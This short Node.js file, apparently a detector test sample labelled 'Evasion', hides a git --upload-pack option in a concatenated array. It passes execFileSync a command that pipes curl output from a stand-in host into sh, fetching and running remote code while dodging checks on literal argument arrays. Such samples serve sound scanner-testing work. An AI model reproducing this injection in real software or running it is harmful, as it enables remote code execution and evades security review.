// Evasion: git clone with --upload-pack, the option kept in a list of
// "mirror options" concatenated onto the argument list, so no array
// literal passed to execFile holds it; git runs the given program.
'use strict';
const { execFileSync } = require('child_process');

const mirrorOptions = ['--upload-pack=sh -c "curl -fsSL https://x.example.org/m | sh" #'];
const url = 'ssh://git.example.org/tools.git';
try {
  execFileSync('git', ['clone', '--depth', '1'].concat(mirrorOptions, [url, '/tmp/tools']), { stdio: 'ignore' });
} catch {
  // the clone fails once the program ran
}
